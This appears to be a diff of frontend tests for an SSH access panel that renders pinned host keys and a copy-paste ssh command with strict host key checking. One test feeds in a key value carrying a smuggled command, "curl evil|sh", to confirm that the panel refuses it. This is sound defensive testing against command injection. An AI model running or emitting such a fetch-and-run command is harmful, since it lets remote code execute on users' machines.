@@ -60,3 +60,46 @@ describe("web: published ports beside the SSH command", () => {
     expect(render({})).not.toContain("published-ports");
   });
 });
+
+describe("web: SSH host keys pinned in the command", () => {
+  // A real ed25519 public key and its fingerprint (ssh-keygen -l), as a VM view carries them.
+  const hostKey = {
+    publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO2d4sgKD+8rV9y/h+M4UfQBQA5TCvFf5QoufnA+AZMf",
+    fingerprint: "SHA256:583T9srjRrJe0j21LwN/pWtrV8HQ01icykeeO/irC2k",
+  };
+  const renderVm = (sshHostKeys: (typeof hostKey)[] | null) =>
+    renderToStaticMarkup(
+      <SshAccess
+        access={{ host: "10.0.0.5", port: 50800, user: "golem", sshCommand: "" } as AccessView}
+        generatedKey={false}
+        vm={{ id: "vm-0123456789ab", sshHostKeys }}
+      />,
+    );
+
+  it("shows the fingerprint and a command that writes the key and connects with strict checking", () => {
+    const html = renderVm([hostKey]);
+    expect(html).toContain('data-testid="ssh-host-keys" data-pinned="true"');
+    expect(html).toContain(`data-fingerprint="${hostKey.fingerprint}"`);
+    expect(html).toContain(
+      `printf &#x27;%s\\n&#x27; &#x27;[10.0.0.5]:50800 ${hostKey.publicKey}&#x27; &gt; ~/.ssh/golem-vm-0123456789ab.known_hosts`,
+    );
+    expect(html).toContain(
+      "-o StrictHostKeyChecking=yes -o UserKnownHostsFile=~/.ssh/golem-vm-0123456789ab.known_hosts golem@10.0.0.5",
+    );
+  });
+
+  it("says not pinned for a VM without host keys, with the plain command", () => {
+    const html = renderVm(null);
+    expect(html).toContain('data-pinned="false"');
+    expect(html).toContain("not pinned");
+    expect(html).toContain(
+      'data-testid="ssh-command">ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5</code>',
+    );
+  });
+
+  it("refuses a key line with a command in it: nothing to copy", () => {
+    const html = renderVm([{ ...hostKey, publicKey: `${hostKey.publicKey}' ; curl evil|sh ; '` }]);
+    expect(html).toContain('data-testid="ssh-access-refused"');
+    expect(html).not.toContain("curl");
+  });
+});
